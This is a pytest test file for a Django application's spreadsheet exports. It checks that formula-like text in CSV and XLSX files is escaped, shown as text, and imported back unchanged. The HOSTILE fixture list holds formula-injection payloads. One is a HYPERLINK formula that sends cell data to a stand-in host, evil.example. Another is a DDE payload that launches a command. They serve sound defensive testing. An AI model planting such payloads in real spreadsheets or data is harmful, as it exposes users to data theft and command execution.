"""Every CSV and XLSX we write shows formula-like text as text (issue 12: formula injection),
and an export holding such text still imports back unchanged (data-exchange.md)."""

import csv
import datetime
import io

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from rest_framework.test import APIClient as Client

from api.services import create_client
from aspire.spreadsheets import guard, unguard, xlsx_text
from calls.models import Proposal
from evaluations import report, services
from evaluations.models import Evaluation
from exchange.services import export_table, import_table, read_table, write_csv, write_xlsx
from tests.factories import AgencyFactory, ProgramFactory, ProposalFactory

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "'=1",  # typed with the apostrophe: it must come back with it
    "''-1",
]


def formula_like(text: str) -> bool:
    return text.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("text", [*HOSTILE, "plain", "", "O'Neill", "'quoted'", "-3.5", "+7"])
def test_it_undoes_its_guard_exactly(text):
    assert unguard(guard(text)) == text


@pytest.mark.parametrize("text", HOSTILE)
def test_it_guards_text_that_would_start_a_formula(text):
    assert guard(text).startswith("'")


@pytest.mark.parametrize("number", ["-3.5", "+7", "-1e5", "12"])
def test_it_leaves_plain_numbers_alone(number):
    assert guard(number) == number
    assert write_csv([["value"], [number]]) == f"value\n{number}\n".encode()


def stored_titles() -> list[str]:
    """As the model keeps them (aspire/fields.py strips and collapses white space)."""
    return sorted(Proposal.objects.values_list("title", flat=True))


def hostile_proposals(titles=HOSTILE) -> list:
    return [
        ProposalFactory(
            title=title,
            jp_pi__name=f"@PI {n}",
            jp_pi__institution="-Lab",
            partner_pi__name="=1+1",
        )
        for n, title in enumerate(titles)
    ]


def csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def test_it_writes_formula_like_text_into_csv_inert_and_reads_it_back():
    hostile_proposals()
    header, rows = export_table("proposals")
    content = write_csv([header, *rows], bom=True)
    cells = csv_cells(content)
    assert not [cell for cell in cells if formula_like(cell)]
    assert "'=1+1" in cells
    result = import_table("proposals", read_table(content, "proposals.csv"))
    assert (result.unchanged, result.errors) == (len(HOSTILE), [])
    assert export_table("proposals") == (header, rows)


def test_it_types_every_text_of_an_xlsx_export_as_a_string_and_reads_it_back():
    hostile_proposals()
    header, rows = export_table("proposals")
    content = write_xlsx([header, *rows])
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    kinds = {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value}
    assert kinds == {"s"}  # no "f": not a formula among them
    shown = load_workbook(io.BytesIO(content), data_only=True).worksheets[0]
    column = header.index("title")
    titles = [xlsx_text(row[column]) for row in shown.iter_rows(min_row=2, values_only=True)]
    assert sorted(titles) == stored_titles()
    result = import_table("proposals", read_table(content, "proposals.xlsx"))
    assert (result.unchanged, result.errors) == (len(HOSTILE), [])  # was: title: value required


def test_it_creates_the_same_records_from_such_an_xlsx_export():
    hostile_proposals()
    titles = stored_titles()
    header, rows = export_table("proposals")
    content = write_xlsx([header, *rows])
    Proposal.objects.all().delete()
    result = import_table("proposals", read_table(content, "proposals.xlsx"))
    assert (result.created, result.errors) == (len(HOSTILE), [])
    assert stored_titles() == titles


def test_it_writes_agency_names_inert_in_the_api_csv():
    AgencyFactory(code="EVIL", name=HOSTILE[0], name_ja="@x", country="US")
    _client, key = create_client("analytics")
    api = Client()
    api.credentials(HTTP_AUTHORIZATION=f"Token {key}")
    content = b"".join(api.get("/api/v1/agencies/?format=csv").streaming_content)
    assert csv_cells(content) == ["code", "name", "name_ja", "country"] + [
        "EVIL",
        "'" + HOSTILE[0],
        "'@x",
        "US",
    ]


def test_it_types_committee_texts_of_the_evaluation_xlsx_as_strings():
    evaluation = Evaluation.objects.create(
        program=ProgramFactory(),
        kind="mid_term",
        as_of=datetime.date(2025, 3, 31),
        overall_comment=HOSTILE[0],
    )
    services.ensure_goal_assessments(evaluation)
    evaluation.assessments.filter(goal=1).update(assessment="+1", future_directions="@x")
    book = load_workbook(io.BytesIO(report.render_xlsx(evaluation, "en")))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells if cell.data_type == "s"}
    assert {HOSTILE[0], "+1", "@x"} <= texts


def test_it_writes_control_characters_into_an_xlsx_export_and_reads_them_back():
    """A worksheet holds no control character (openpyxl refused the whole export) and reads
    a carriage return as a line feed: both are written as Excel writes them, _x0007_."""
    hostile_proposals(["Bell\x07 and \x1bescape", "a literal _x0041_ stays"])
    titles = stored_titles()
    header, rows = export_table("proposals")
    content = write_xlsx([header, *rows])
    result = import_table("proposals", read_table(content, "proposals.xlsx"))
    assert (result.unchanged, result.errors) == (len(titles), [])
    Proposal.objects.all().delete()
    import_table("proposals", read_table(content, "proposals.xlsx"))
    assert stored_titles() == titles


@settings(max_examples=60, deadline=None, database=None)
@given(st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\x00")))
@example("line\r\nend")
@example("bell\x07_x0041_")
@example("_x005F_x0041_")
@example("_xa045\x07")
def test_it_reads_back_every_text_it_writes_into_a_worksheet(text):
    """Free texts (purposes, comments) keep carriage returns and control characters, and a
    text that looks like Excel's escape stays as written."""
    assert read_table(write_xlsx([["purpose"], [text]]), "a.xlsx")[0]["purpose"] == text
